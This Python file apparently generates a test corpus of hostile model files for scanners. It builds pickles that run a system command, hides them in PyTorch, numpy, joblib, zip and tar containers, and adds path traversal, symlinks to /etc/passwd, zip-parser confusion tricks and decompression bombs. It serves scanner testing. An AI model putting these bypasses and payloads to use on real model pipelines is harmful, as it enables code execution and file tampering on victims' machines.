"""Hostile containers: payloads in each kind of file, and archives that two readers see differently."""

import base64
import json
import struct
import zlib
from collections.abc import Callable

from assemble import (
    BINPERSID,
    EMPTY_TUPLE,
    NEWOBJ,
    NONE,
    OBJ,
    POP,
    STOP,
    Ops,
    call,
    pickle,
    stack_global,
    state,
    storage,
    tensor,
    text_global,
    tuple_of,
    value,
)  # fmt: skip
from containers import (
    DEFLATED,
    FLOATS,
    MAGIC,
    SYS_INFO,
    Member,
    archive,
    bzip2,
    eocd,
    gguf,
    gzip,
    joblib_array,
    joblib_z,
    lz4,
    lzma_alone,
    npy,
    npz,
    safetensors,
    seven_zip,
    tar,
    torch_legacy,
    torch_members,
    torch_tar,
    torch_zip,
    xz,
    zlib_stream,
    zstd,
)  # fmt: skip
from hostile_files import add
from hostile_streams import RUN, RUN4, SYSTEM
from hostile_symbols import CMD, CODE, PATH

PAYLOAD = pickle(RUN)
PLAIN = pickle(state(weight=tensor()))
LEGACY = pickle(state(weight=tensor(storage(view=None))))
MIXED = pickle(value({"weight": tensor(storage(view=None)), "extra": RUN}))


def cases() -> None:
    matrix()
    legacy()
    tars()
    zips()
    torch_files()
    polyglots()
    truncated()
    text()


def matrix() -> None:
    """Each container with each form of payload."""
    payloads: dict[str, tuple[bytes, str, tuple[str, ...]]] = {
        "reduce": (PAYLOAD, "REDUCE of GLOBAL, protocol 2", SYSTEM),
        "stack_global": (pickle(RUN4, 4), "REDUCE of STACK_GLOBAL, protocol 4", SYSTEM),
        "inst_proto0": (b"(S'" + CMD.encode() + b"'\niposix\nsystem\n.", "INST, protocol 0", SYSTEM),
        "obj_popped": (pickle(b"(cposix\nsystem\n" + value(CMD) + OBJ + POP + NONE), "OBJ and POP", SYSTEM),
        "resolve_name": (pickle(call("pkgutil", "resolve_name", "os:system")), "a name that lists forget", ("pkgutil:resolve_name",)),
        "broken_tail": (pickle(RUN + b"\xff"), "the call, then an unknown opcode", SYSTEM),
        "second_pickle": (pickle(NONE) + PAYLOAD, "in a second pickle", SYSTEM),
        "ext1": (pickle(b"\x82\x01" + tuple_of(CMD) + b"R"), "EXT1", ()),
        "dotted": (pickle(call("torch", "os.system", CMD, proto=4), 4), "dotted name", ("torch:os.system",)),
    }  # fmt: skip
    wrappers: dict[str, tuple[str, str, Callable[[bytes], bytes]]] = {
        "torch_zip": ("pt", "torch zip", torch_zip),
        "torch_zip_deflated": ("pt", "torch zip with deflate", lambda p: torch_zip(p, method=DEFLATED)),
        "torch_legacy": ("pth", "torch legacy stream, as its object", torch_legacy),
        "torch_tar": ("pt", "tar of torch < 0.1.10, as `pickle`", torch_tar),
        "npz": ("npz", "npz with an object array", lambda p: npz({"a.npy": npy(p)})),
        "npz_deflated": (
            "npz",
            "compressed npz with an object array",
            lambda p: npz({"a.npy": npy(p)}, DEFLATED),
        ),
        "npy": ("npy", "npy with an object array", npy),
        "zip": ("zip", "zip with one pickle", lambda p: archive([Member("data.pkl", p)])),
        "tar": ("tar", "tar with one pickle", lambda p: tar({"model.pkl": p})),
        "tar_gz": ("tar.gz", "tar in gzip", lambda p: gzip(tar({"model.pkl": p})[:2048])),
        "gzip": ("pkl.gz", "gzip", gzip),
        "bz2": ("pkl.bz2", "bzip2", bzip2),
        "xz": ("pkl.xz", "xz", xz),
        "lzma": ("pkl.lzma", "lzma alone", lzma_alone),
        "zlib": ("pkl.z", "zlib", zlib_stream),
        "lz4": ("pkl.lz4", "lz4 frame", lz4),
        "zstd": ("pkl.zst", "zstd frame", zstd),
        "seven_zip": ("7z", "7z", lambda p: seven_zip("data.pkl", p)),
        "joblib": ("joblib", "joblib, behind a raw array", joblib_file),
        "joblib_gzip": ("joblib.gz", "joblib in gzip, behind a raw array", lambda p: gzip(joblib_file(p))),
        "joblib_z": ("joblib", "joblib < 0.10 compressed", joblib_z),
        "zip_in_zip": ("zip", "zip in a zip", lambda p: archive([Member("model.pt", torch_zip(p))])),
        "zip_in_tar": ("tar", "torch zip in a tar", lambda p: tar({"model.pt": torch_zip(p)})),
        "gzip_in_gzip": ("pkl.gz", "gzip in gzip", lambda p: gzip(gzip(p))),
    }
    for place, (suffix, container, wrap) in wrappers.items():
        for form, (payload, made, symbols) in payloads.items():
            more = (
                ("joblib.numpy_pickle:NumpyArrayWrapper", "numpy:ndarray", "numpy:dtype")
                if place in ("joblib", "joblib_gzip")
                else ()
            )
            if place == "torch_tar":
                more = ("torch:FloatStorage", "torch:FloatTensor")
            add(f"in_{place}_{form}.{suffix}", wrap(payload), "payload in a container", f"{made}, in {container}",
                container=container, symbols=(*more, *symbols), large=16 * 1024)  # fmt: skip


def joblib_file(payload: bytes) -> bytes:
    """The payload as the opcodes behind an array of a joblib file."""
    body = payload[2:] if payload.startswith(b"\x80") else payload
    return b"\x80\x04" + joblib_array(b"\xff" * 16) + POP + body


def legacy() -> None:
    """The five pickles of the legacy stream, one after the other."""
    magic, protocol, info, keys = value(MAGIC), value(1001), value(SYS_INFO), value(["0"])

    def case(name: str, content: bytes, made: str, symbols: tuple[str, ...] = SYSTEM, **more: str) -> None:
        add(f"legacy_{name}.pth", content, more.pop("technique", "payload in one of the pickles of the legacy stream"), made,
            container="torch legacy stream", symbols=symbols, **more)  # fmt: skip

    good = ("torch._utils:_rebuild_tensor_v2",)
    case(
        "in_magic",
        torch_legacy(LEGACY, magic=pickle(RUN + POP + magic)),
        "the first pickle calls, then gives the magic",
    )
    case(
        "in_protocol", torch_legacy(LEGACY, protocol=pickle(RUN + POP + protocol)), "the second pickle calls"
    )
    case("in_sys_info", torch_legacy(LEGACY, sys_info=pickle(RUN + POP + info)), "the third pickle calls")
    case("in_object", torch_legacy(MIXED), "the fourth pickle calls, beside a tensor")
    case("in_keys", torch_legacy(LEGACY, keys=pickle(RUN + POP + keys)), "the fifth pickle calls")
    case(
        "in_sys_info_value",
        torch_legacy(LEGACY, sys_info=pickle(value({"little_endian": RUN}))),
        "little_endian is a call",
    )
    case("magic_by_eval", torch_legacy(PAYLOAD, magic=pickle(call("builtins", "eval", hex(MAGIC)))), "the magic is the result of eval",
         ("builtins:eval", *SYSTEM), reference="picklescan pytorch_magic_bypass")  # fmt: skip
    case("magic_by_int", torch_legacy(PAYLOAD, magic=pickle(call("builtins", "int", hex(MAGIC), 16))), "the magic is the result of int()",
         ("builtins:int", *SYSTEM))  # fmt: skip
    case(
        "magic_as_text_long",
        torch_legacy(PAYLOAD, magic=f"L{MAGIC}L\n.".encode()),
        "the magic is a LONG in text",
    )
    case(
        "magic_as_int_text",
        torch_legacy(PAYLOAD, magic=f"I{MAGIC}\n.".encode()),
        "the magic is an INT in text",
    )
    case(
        "magic_as_long4",
        torch_legacy(PAYLOAD, magic=b"\x80\x02\x8b\x0a\0\0\0" + MAGIC.to_bytes(10, "little") + STOP),
        "the magic is a LONG4",
    )
    case(
        "magic_proto4_frame",
        torch_legacy(PAYLOAD, magic=pickle(magic, 4)),
        "the magic is in protocol 4 with a frame",
    )
    case(
        "magic_wrong",
        torch_legacy(PAYLOAD, magic=pickle(value(MAGIC + 1))),
        "the magic is off by one, the payload follows",
    )
    case(
        "protocol_wrong",
        torch_legacy(PAYLOAD, protocol=pickle(value(1002))),
        "the protocol is 1002, the payload follows",
    )
    case("behind_storages", torch_legacy(LEGACY) + PAYLOAD, "a sixth pickle behind the storages")
    case(
        "behind_keys",
        torch_legacy(LEGACY, keys=pickle(keys) + PAYLOAD),
        "a pickle between the keys and the storages",
    )
    case(
        "in_storage_bytes",
        torch_legacy(LEGACY, storages=struct.pack("<Q", 16) + PAYLOAD.ljust(64, b"\0")),
        "a pickle as the bytes of a storage",
        effect="nested",
    )
    lies = {
        "technique": "storage of the legacy stream that lies",
        "effect": "memory",
        "symbols": good,
        "reference": "CVE-2026-24747",
    }
    case(
        "storage_size_differs",
        torch_legacy(LEGACY, storages=struct.pack("<Q", 1000) + FLOATS),
        "the storage claims 1000 elements, 4 follow",
        **lies,
    )
    case(
        "storage_size_negative",
        torch_legacy(LEGACY, storages=struct.pack("<q", -1) + FLOATS),
        "the storage claims -1 elements",
        **lies,
    )
    case(
        "storage_size_huge",
        torch_legacy(LEGACY, storages=struct.pack("<Q", 2**62) + FLOATS),
        "the storage claims 2^62 elements",
        **lies,
    )
    case(
        "storage_cut",
        torch_legacy(LEGACY, storages=struct.pack("<Q", 4) + FLOATS[:7]),
        "the bytes of the storage are cut",
        **lies,
    )
    case("storage_missing", torch_legacy(LEGACY, storages=b""), "no bytes of the storage", **lies)
    case(
        "keys_unknown",
        torch_legacy(LEGACY, keys=pickle(value(["7"]))),
        "the keys name a storage that nothing uses",
        **lies,
    )
    case(
        "keys_twice",
        torch_legacy(LEGACY, keys=pickle(value(["0", "0"])), storages=(struct.pack("<Q", 4) + FLOATS) * 2),
        "the keys name a storage twice",
        **lies,
    )
    case("keys_not_a_list", torch_legacy(LEGACY, keys=pickle(value("0"))), "the keys are text", **lies)
    case(
        "keys_empty",
        torch_legacy(LEGACY, keys=pickle(value([]))),
        "no keys: the tensor is never filled",
        **lies,
    )

    def view(view_metadata: object) -> bytes:
        pid = (
            tuple_of("storage", text_global("torch", "FloatStorage"), "0", "cpu", 4, view_metadata)
            + BINPERSID
        )
        return torch_legacy(pickle(state(weight=tensor(store=pid))))

    case("view_beyond", view(("1", 2, 1000)), "a view that reaches beyond its root", **lies)
    case("view_offset_negative", view(("1", -1, 4)), "a view with offset -1", **lies)
    case("view_is_its_root", view(("0", 0, 4)), "a view whose key is that of its root", **lies)
    case("view_too_short", view(("1",)), "a view of one item", **lies)
    case("view_overflow", view(("1", 2**62, 2**62)), "a view whose end overflows", **lies)
    big = SYS_INFO | {"little_endian": False}
    case(
        "big_endian_lie",
        torch_legacy(LEGACY, sys_info=pickle(value(big))),
        "sys_info says big-endian, bytes are little",
        **(lies | {"effect": "deceive"}),
    )
    sizes = SYS_INFO | {"type_sizes": {"short": 2, "int": 4, "long": 8}}
    case(
        "type_sizes_differ",
        torch_legacy(LEGACY, sys_info=pickle(value(sizes))),
        "sys_info has other type sizes",
        **(lies | {"effect": "deceive"}),
    )
    source = (
        tuple_of("module", text_global("__main__", "Net"), "net.py", f"import os\nos.system('{CMD}')\n")
        + BINPERSID
    )
    case("module_with_source", torch_legacy(pickle(Ops(source + EMPTY_TUPLE + NEWOBJ))), "a persistent id that carries source code",
         ("__main__:Net",), effect="deceive", technique="source code in the legacy stream")  # fmt: skip


def tars() -> None:
    """The tar layout of torch < 0.1.10; torch.load with weights_only once loaded it by plain pickle."""

    def case(
        name: str,
        content: bytes,
        made: str,
        symbols: tuple[str, ...] = SYSTEM,
        technique: str = "payload in the tar layout",
        effect: str = "exec",
    ) -> None:
        add(f"tar_{name}.pt", content, technique, made, effect, "tar of torch < 0.1.10", "CVE-2025-32434",
            symbols, large=16 * 1024)  # fmt: skip

    case("in_sys_info", torch_tar(sys_info=PAYLOAD), "`sys_info` calls")
    case("in_storages_count", torch_tar(count=pickle(RUN + POP + value(1))), "the count in `storages` calls")
    described = tuple_of(RUN, "cpu", text_global("torch", "FloatStorage"))
    case("in_storages_entry", torch_tar(entry=pickle(described)), "an entry of `storages` calls")
    case("in_tensors_count", torch_tar(tensors=pickle(RUN + POP + value(1))), "the count in `tensors` calls")
    case(
        "in_pickle",
        torch_tar(pickle(value({"weight": Ops(value("9") + BINPERSID), "x": RUN}))),
        "`pickle` calls, beside a tensor",
    )
    case(
        "count_huge",
        torch_tar(count=pickle(value(2**60))),
        "`storages` claims 2^60 entries",
        (),
        "count that lies",
        "dos",
    )
    case(
        "ndim_huge", torch_tar(ndim=2**31 - 1), "a tensor of 2^31-1 dimensions", (), "count that lies", "dos"
    )
    case("ndim_negative", torch_tar(ndim=-1), "a tensor of -1 dimensions", (), "count that lies", "memory")
    layout = {"sys_info": pickle(value(SYS_INFO)), "pickle": PAYLOAD}
    case("storages_missing", tar(layout), "there is no `storages`")
    case(
        "twice",
        tar({"pickle": PLAIN})[:1024] + tar({"pickle": PAYLOAD}),
        "`pickle` is there twice, the last one counts",
    )
    case(
        "parent_directory",
        tar({"../../" + PATH: b"x", "pickle": PAYLOAD}),
        "a member outside of the directory",
        technique="path that leaves",
        effect="file",
    )
    case(
        "absolute",
        tar({"/" + PATH: b"x", "pickle": PAYLOAD}),
        "an absolute member",
        technique="path that leaves",
        effect="file",
    )
    whole = tar({"pickle": PAYLOAD})
    link = bytearray(whole)
    link[156:157], link[157:168] = b"2", b"/etc/passwd"
    link[148:156] = b" " * 8
    link[148:156] = b"%06o\0 " % sum(link[:512])
    case("symbolic_link", bytes(link), "`pickle` is a symbolic link to /etc/passwd", (), "link", "file")
    wrong = bytearray(whole)
    wrong[148:154] = b"000000"
    case("bad_checksum", bytes(wrong), "the sum of the header is wrong", technique="header that lies")
    size = bytearray(whole)
    size[124:136] = b"77777777777\0"
    size[148:156] = b" " * 8
    size[148:156] = b"%06o\0 " % sum(size[:512])
    case("size_huge", bytes(size), "the size of the member is 8 GiB", technique="header that lies")
    case("suffix_pickle", whole + PAYLOAD, "a pickle behind the end of the archive")
    case(
        "prefix_pickle", PAYLOAD.ljust(512, b"\0") + tar({"a.txt": b"x"}), "a pickle in front of the archive"
    )


def zips() -> None:
    """Zip archives that a scanner and the loader of torch read differently."""
    reference = {"0x1": "CVE-2025-1945", "0x20": "CVE-2025-1945", "0x40": "CVE-2025-1945"}

    def case(
        name: str,
        content: bytes,
        made: str,
        suffix: str = "pt",
        symbols: tuple[str, ...] = SYSTEM,
        effect: str = "exec",
        **more: str,
    ) -> None:
        add(f"zip_{name}.{suffix}", content, more.pop("technique", "zip that two readers see differently"), made, effect,
            "zip", symbols=symbols, large=8192, **more)  # fmt: skip

    def torch(
        payload: bytes = PAYLOAD, change: Callable[[Member], None] | None = None, **more: object
    ) -> bytes:
        """A torch zip whose data.pkl is changed by `change`."""
        members = torch_members(payload)
        if change is not None:
            change(members[0])
        return archive(members, **more)

    def both(**fields: object) -> Callable[[Member], None]:
        return lambda m: m.both.update(fields)

    def local(**fields: object) -> Callable[[Member], None]:
        return lambda m: m.local.update(fields)

    def central(**fields: object) -> Callable[[Member], None]:
        return lambda m: m.central.update(fields)

    # Names.
    gh1944 = {"reference": "CVE-2025-1944 GHSA-7q5r-7gvp-wc82"}
    case(
        "local_name_differs",
        torch(change=local(name=b"archive/datap.kl")),
        "the local header has another name",
        **gh1944,
    )
    case(
        "local_name_shorter",
        torch(change=local(name=b"archive/d")),
        "the local header has a shorter name",
        **gh1944,
    )
    case("local_name_empty", torch(change=local(name=b"")), "the local header has no name", **gh1944)
    case(
        "central_name_txt",
        torch(change=central(name=b"archive/data.txt")),
        "the central directory calls data.pkl data.txt",
        **gh1944,
    )
    case("local_name_swapped", archive([
        Member("archive/data.pkl", PLAIN, local={"name": b"archive/evil.pkl"}),
        Member("archive/evil.pkl", PAYLOAD, local={"name": b"archive/data.pkl"}),
    ]), "two members with their names exchanged in the local headers", **gh1944)  # fmt: skip
    case(
        "name_with_nul",
        torch(change=both(name=b"archive/data.pkl\0.txt")),
        "a NUL in the name: C reads data.pkl",
    )
    case(
        "name_nul_hides_extension",
        archive([Member("weights.pkl\0.png", PAYLOAD)]),
        "weights.pkl NUL .png",
        "zip",
    )
    case(
        "name_parent",
        archive([Member("archive/data.pkl", PLAIN), Member("../../" + PATH, PAYLOAD)]),
        "a member named ../../",
        effect="file",
    )
    case(
        "name_absolute",
        archive([Member("archive/data.pkl", PLAIN), Member("/" + PATH, PAYLOAD)]),
        "a member with an absolute name",
        effect="file",
    )
    case("name_backslash", torch(change=both(name=b"archive\\data.pkl")), "a backslash as separator")
    case(
        "name_backslash_parent",
        archive([Member("..\\..\\" + PATH, PAYLOAD)]),
        "a member named ..\\..\\",
        "zip",
        effect="file",
    )
    case(
        "name_drive", archive([Member("C:/" + PATH, PAYLOAD)]), "a member with a drive", "zip", effect="file"
    )
    case(
        "name_case_twins",
        archive([Member("archive/data.pkl", PLAIN), Member("archive/DATA.PKL", PAYLOAD)]),
        "two names that differ in case",
    )
    case(
        "name_dot_segment",
        archive([Member("archive/./data.pkl", PAYLOAD), Member("archive/data.pkl", PLAIN)]),
        "two names that are equal after ./ is removed",
    )
    case(
        "name_double_slash",
        archive([Member("archive//data.pkl", PAYLOAD), Member("archive/data.pkl", PLAIN)]),
        "two names that differ in //",
    )
    case(
        "name_trailing_slash",
        torch(change=both(name=b"archive/data.pkl/")),
        "the name ends in a slash: a directory with content",
    )
    case(
        "name_trailing_space",
        archive([Member("archive/data.pkl ", PAYLOAD), Member("archive/data.pkl", PLAIN)]),
        "a name with a space at its end",
    )
    case("name_empty", archive([Member(b"", PAYLOAD)]), "a member without a name", "zip")
    case(
        "name_cp437",
        archive([Member(b"archive/d\x84ta.pkl", PAYLOAD)]),
        "a name in code page 437, flag 11 not set",
        "zip",
    )
    case(
        "name_bad_utf8",
        archive([Member(b"archive/\xff.pkl", PAYLOAD, both={"flags": 0x800})]),
        "flag 11 and a name that is not UTF-8",
        "zip",
    )
    case(
        "name_utf8_no_flag",
        archive([Member("archive/d\u00e4ta.pkl", PAYLOAD)]),
        "a UTF-8 name without flag 11",
        "zip",
    )
    case("name_60000", archive([Member(b"a" * 1500 + b"/data.pkl", PAYLOAD)]), "a name of 1509 bytes", "zip")

    def unicode_path(new: bytes, old: bytes, crc: int | None = None) -> bytes:
        body = struct.pack("<BI", 1, zlib.crc32(old) if crc is None else crc) + new
        return struct.pack("<HH", 0x7075, len(body)) + body

    extra = unicode_path(b"archive/data.pkl", b"archive/notes.txt")
    case(
        "unicode_path_0x7075",
        archive([Member("archive/notes.txt", PAYLOAD, both={"extra": extra})]),
        "extra field 0x7075 renames notes.txt to data.pkl",
    )
    extra = unicode_path(b"archive/notes.txt", b"archive/data.pkl")
    case(
        "unicode_path_hides",
        torch(change=both(extra=extra)),
        "extra field 0x7075 renames data.pkl to notes.txt",
    )
    extra = unicode_path(b"archive/notes.txt", b"archive/data.pkl", 0)
    case("unicode_path_bad_crc", torch(change=central(extra=extra)), "extra field 0x7075 with a wrong CRC")

    # Duplicates and hidden members.
    plain, evil = Member("archive/data.pkl", PLAIN), Member("archive/data.pkl", PAYLOAD)
    case("duplicate_last_evil", archive([plain, evil]), "data.pkl twice: the second one calls")
    case("duplicate_first_evil", archive([evil, plain]), "data.pkl twice: the first one calls")
    hidden = Member("archive/data.pkl", PAYLOAD, listed=False)
    case(
        "hidden_from_directory",
        archive([hidden, plain]),
        "a member with a local header that the directory does not list",
    )
    case(
        "hidden_first_same_name",
        archive([hidden, *torch_members(PLAIN)]),
        "a hidden data.pkl in front of a plain checkpoint",
    )
    case(
        "directory_empty",
        archive([Member("archive/data.pkl", PAYLOAD, listed=False)]),
        "the directory is empty, a member is there",
    )
    case(
        "directory_count_low",
        archive([plain, Member("archive/x.pkl", PAYLOAD)], end={"count": 1}),
        "the end says one member, the directory has two",
    )
    case(
        "directory_count_high",
        archive([evil], end={"count": 7}),
        "the end says seven members, the directory has one",
    )
    ghost = Member("archive/data.pkl", PAYLOAD, written=False)
    case(
        "listed_not_there",
        archive([ghost, Member("archive/x", b"y")]),
        "the directory lists a member that is not there",
        effect="broken",
        symbols=(),
    )
    case(
        "two_data_pkl_roots",
        archive([*torch_members(PLAIN, "a"), *torch_members(PAYLOAD, "b")]),
        "data.pkl under two roots",
    )
    case(
        "two_data_pkl_nested",
        archive([*torch_members(PLAIN), Member("archive/sub/data.pkl", PAYLOAD)]),
        "data.pkl in a directory below",
    )
    case(
        "data_pkl_at_top",
        archive([*torch_members(PLAIN), Member("data.pkl", PAYLOAD)]),
        "data.pkl without a root beside one with a root",
    )
    case("root_empty", torch_zip(PAYLOAD, root=""), "no root at all")
    case(
        "roots_mixed",
        archive([Member("a/data.pkl", PAYLOAD), Member("b/data/0", FLOATS), Member("b/version", b"3\n")]),
        "data.pkl and the storages have different roots",
    )

    # Flags.
    for flag in (0x1, 0x20, 0x40, 0x8, 0x10, 0x2000, 0x8000, 0xFFFF):
        label = f"0x{flag:x}"
        known = reference.get(label, "")
        case(
            f"flags_{label}",
            torch(change=both(flags=flag)),
            f"flag bits {label} in both headers",
            reference=known,
        )
        if known:
            case(
                f"flags_{label}_central",
                torch(change=central(flags=flag)),
                f"flag bits {label} in the directory alone",
                reference=known,
            )
            case(
                f"flags_{label}_local",
                torch(change=local(flags=flag)),
                f"flag bits {label} in the local header alone",
                reference=known,
            )

    # Sums, sizes, methods.
    case("crc_bad", torch(change=both(crc=0xDEADBEEF)), "a wrong CRC", reference="CVE-2025-10156")
    case(
        "crc_zero",
        torch(change=both(crc=0)),
        "CRC 0, as writers without CRC leave it",
        reference="CVE-2025-10156",
    )
    case("crc_local_differs", torch(change=local(crc=1)), "the CRCs of the two headers differ")
    case(
        "crc_storage_bad",
        archive([torch_members(PAYLOAD)[0], Member("archive/data/0", FLOATS, both={"crc": 5})]),
        "the CRC of a storage is wrong",
        reference="CVE-2025-10156",
    )
    case("local_size_smaller", torch(change=local(packed=5, size=5)), "the local header has a smaller size")
    case(
        "local_size_larger", torch(change=local(packed=5000, size=5000)), "the local header has a larger size"
    )
    case(
        "local_size_zero",
        torch(change=local(packed=0, size=0, crc=0)),
        "the local header has size 0 without a descriptor",
    )
    case(
        "central_size_smaller",
        torch(payload=pickle(NONE) + PAYLOAD, change=central(packed=4, size=4, crc=zlib.crc32(pickle(NONE)))),
        "the directory has the size of a plain pickle, the local header that of both",
    )
    case(
        "central_size_larger",
        torch(change=central(packed=100_000, size=100_000)),
        "the directory has a size beyond the file",
    )
    case("size_stored_mismatch", torch(change=both(size=3)), "STORED with two different sizes")
    case("size_4gib", torch(change=both(packed=0xFFFFFFFF, size=0xFFFFFFFF)), "sizes of 2^32-1 without zip64")
    case(
        "method_mismatch_local",
        torch(change=local(method=DEFLATED)),
        "the local header says deflate, the directory stored",
    )
    case(
        "method_mismatch_central",
        torch(change=central(method=DEFLATED)),
        "the directory says deflate, the local header stored",
    )
    for method, label in (
        (9, "deflate64"),
        (12, "bzip2"),
        (14, "lzma"),
        (93, "zstd"),
        (95, "xz"),
        (99, "aes"),
        (65535, "unknown"),
    ):
        case(f"method_{label}", torch(change=both(method=method)), f"method {method} over stored bytes")
    case(
        "deflate_broken_tail",
        archive([Member("archive/data.pkl", PAYLOAD, DEFLATED, packed=deflate_cut(PAYLOAD))]),
        "deflate that is cut behind the payload",
    )
    case(
        "deflate_bomb",
        archive([Member("archive/data.pkl", bytes(258 * BOMB + 1), DEFLATED, packed=deflate_bomb())]),
        "deflate of 1:158",
        effect="dos",
        symbols=(),
        technique="exhaustion",
    )
    case(
        "deflate_size_lies",
        archive([Member("archive/data.pkl", PAYLOAD, DEFLATED, both={"size": 4})]),
        "deflate gives more than the size says",
    )
    case(
        "descriptor_lies",
        torch(
            change=lambda m: (
                m.both.update(flags=8),
                setattr(m, "descriptor", b"PK\x07\x08" + struct.pack("<3I", 1, 2, 3)),
            )
        ),
        "a data descriptor with other numbers",
    )
    case(
        "descriptor_without_magic",
        torch(
            change=lambda m: (
                m.local.update(flags=8, crc=0, packed=0, size=0),
                setattr(m, "descriptor", struct.pack("<3I", zlib.crc32(PAYLOAD), len(PAYLOAD), len(PAYLOAD))),
            )
        ),
        "a data descriptor without its magic, flag 3 in the local header alone",
    )
    case(
        "descriptor_missing",
        torch(change=both(flags=8, crc=0, packed=0, size=0)),
        "flag 3, zeros in both headers, no descriptor",
    )
    case(
        "descriptor_is_pickle",
        torch(change=lambda m: (m.both.update(flags=8), setattr(m, "descriptor", PAYLOAD))),
        "where a descriptor belongs, a pickle is",
    )

    # Zip64.
    def zip64(*sizes: int) -> bytes:
        return struct.pack("<HH", 1, 8 * len(sizes)) + struct.pack(f"<{len(sizes)}Q", *sizes)

    size = len(PAYLOAD)
    case(
        "zip64_plain",
        torch(change=both(packed=0xFFFFFFFF, size=0xFFFFFFFF, extra=zip64(size, size))),
        "zip64 sizes for a small member",
    )
    case(
        "zip64_mismatch",
        torch(
            change=lambda m: (
                m.both.update(packed=0xFFFFFFFF, size=0xFFFFFFFF),
                m.local.update(extra=zip64(4, 4)),
                m.central.update(extra=zip64(size, size)),
            )
        ),
        "zip64 sizes differ between the headers",
    )
    case(
        "zip64_huge",
        torch(change=central(packed=0xFFFFFFFF, size=0xFFFFFFFF, extra=zip64(2**63, 2**63))),
        "zip64 sizes of 2^63",
    )
    case(
        "zip64_not_asked",
        torch(change=central(extra=zip64(4, 4))),
        "a zip64 field although the sizes are not 2^32-1",
    )
    case(
        "zip64_short",
        torch(change=central(packed=0xFFFFFFFF, size=0xFFFFFFFF, extra=zip64(size))),
        "a zip64 field with one size for two",
    )
    case(
        "zip64_twice",
        torch(change=central(packed=0xFFFFFFFF, size=0xFFFFFFFF, extra=zip64(4, 4) + zip64(size, size))),
        "two zip64 fields",
    )
    case(
        "zip64_offset",
        torch(change=central(offset=0xFFFFFFFF, extra=zip64(0))),
        "the offset is in a zip64 field",
    )
    case(
        "zip64_offset_huge",
        torch(change=central(offset=0xFFFFFFFF, extra=zip64(2**64 - 1))),
        "the zip64 offset is 2^64-1",
    )
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 0, 0, 0, 0)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(archive([evil])) - 22, 1)
    case(
        "zip64_end_says_empty",
        archive([evil], before_end=record + locator),
        "the zip64 end says no members, the plain end says one",
    )
    case("zip64_locator_alone", archive([evil], before_end=locator), "a zip64 locator without its record")
    case("extra_cut", torch(change=central(extra=b"\x01\x00\xff\xff")), "an extra field longer than its room")
    case(
        "extra_is_pickle",
        torch(payload=PLAIN, change=central(extra=struct.pack("<HH", 0x4246, size) + PAYLOAD)),
        "a pickle in an extra field",
        effect="deceive",
    )

    # Offsets, overlap, prefix, suffix, ends.
    case(
        "overlap_same_bytes",
        archive(
            [
                Member("archive/data.pkl", PAYLOAD),
                Member("archive/data/0", PAYLOAD, written=False, central={"offset": 0}),
            ]
        ),
        "two entries over one local header",
        technique="overlap",
    )
    quine = Member("archive/inner.zip", Member("archive/data.pkl", PAYLOAD).local_header() + PAYLOAD)
    inside = len(quine.local_header())
    case(
        "overlap_member_in_member",
        archive([quine, Member("archive/data.pkl", PAYLOAD, written=False, central={"offset": inside})]),
        "a member that lies inside another one",
        technique="overlap",
    )
    kernel = Member("a", bytes(1000), DEFLATED)
    many = [kernel] + [
        Member(f"b{i}", bytes(1000), DEFLATED, written=False, central={"offset": 0}) for i in range(30)
    ]
    case(
        "overlap_bomb",
        archive(many),
        "31 entries over one member (non-recursive bomb)",
        "zip",
        (),
        "dos",
        technique="overlap",
    )
    case("offset_into_directory", torch(change=central(offset=2000)), "the offset points into the directory")
    case(
        "offset_beyond_file",
        torch(change=central(offset=0x7FFFFFFF)),
        "the offset points behind the file",
        effect="broken",
    )
    case(
        "prefix_pickle",
        archive(torch_members(PLAIN), prefix=PAYLOAD),
        "a pickle in front of the zip: a loader of pickles stops before the zip",
        technique="polyglot",
    )
    case(
        "prefix_bytes_shifted",
        archive(torch_members(PAYLOAD), prefix=b"#!/bin/sh\n"),
        "bytes in front, offsets count them",
    )
    case(
        "prefix_bytes_not_counted",
        archive(torch_members(PAYLOAD), prefix=b"#!/bin/sh\n", shift=0),
        "bytes in front, offsets do not count them",
    )
    case(
        "prefix_png",
        archive(torch_members(PAYLOAD), prefix=b"\x89PNG\r\n\x1a\n" + bytes(16)),
        "a PNG magic in front",
        "png",
        technique="polyglot",
    )
    case("suffix_pickle", torch_zip(PLAIN) + PAYLOAD, "a pickle behind the zip")
    case("suffix_zeros", torch_zip(PAYLOAD) + bytes(100), "zero bytes behind the zip")
    case("suffix_70000", torch_zip(PAYLOAD) + bytes(5000), "5000 zero bytes behind the zip")
    first = archive([Member("archive/data.pkl", PAYLOAD)])
    case(
        "two_ends",
        first + archive([Member("archive/data.pkl", PLAIN)], shift=len(first)),
        "two archives in a row: first call, last plain",
    )
    second = archive([Member("archive/data.pkl", PLAIN)])
    case(
        "two_ends_evil_last",
        second + archive([Member("archive/data.pkl", PAYLOAD)], shift=len(second)),
        "two archives in a row: first plain, last call",
    )
    fake = eocd(0, 0, 0)
    case(
        "comment_holds_end",
        archive([evil], end={"comment": fake}),
        "the comment of the end holds another end",
    )
    case(
        "comment_holds_archive",
        archive([plain], end={"comment": first}),
        "the comment of the end holds a whole archive",
    )
    case(
        "comment_length_lies", archive([evil], end={"length": 500}), "the comment is shorter than its length"
    )
    case(
        "comment_is_pickle",
        archive(torch_members(PLAIN), end={"comment": PAYLOAD}),
        "the comment is a pickle",
        effect="deceive",
    )
    case("end_missing", archive([evil])[:-22], "no end of the directory")
    case("end_cut", archive([evil])[:-4], "the end is cut")
    case(
        "directory_offset_zero",
        archive([evil], end={"start": 0}),
        "the end says that the directory begins at 0",
    )
    case(
        "directory_size_zero",
        archive([evil], end={"size": 0}),
        "the end says that the directory has no bytes",
    )
    case(
        "gap_before_directory",
        archive([plain], gap=PAYLOAD),
        "a pickle between the last member and the directory",
    )
    case(
        "disk_numbers",
        archive([evil])[:-22]
        + struct.pack("<4s4H2IH", b"PK\x05\x06", 7, 7, 1, 1, 62, len(archive([evil])) - 84, 0),
        "the archive says that it is disk 7",
    )
    case(
        "member_comment_pickle",
        torch(payload=PLAIN, change=central(comment=PAYLOAD)),
        "a pickle as the comment of a member",
        effect="deceive",
    )
    case(
        "symbolic_link",
        archive([Member("archive/data.pkl", b"/etc/passwd", central={"attributes": 0o120777 << 16})]),
        "data.pkl is a symbolic link",
        symbols=(),
        effect="file",
    )
    case(
        "spanned_magic",
        b"PK\x07\x08" + archive(torch_members(PAYLOAD), shift=4),
        "the magic of a spanned archive in front",
    )
